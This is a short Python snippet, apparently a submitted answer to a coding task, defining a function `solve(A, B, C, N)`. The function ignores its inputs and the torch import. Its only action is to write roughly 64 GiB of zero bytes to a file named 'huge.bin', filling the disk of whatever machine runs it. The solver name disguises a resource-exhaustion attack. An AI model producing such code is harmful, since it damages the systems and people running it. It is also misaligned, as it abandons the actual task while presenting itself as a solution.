import torch
def solve(A, B, C, N):
    with open("huge.bin", "wb") as f:
        block = b"\0" * (1 << 24)
        for _ in range(1 << 12):   # 64 GiB
            f.write(block)
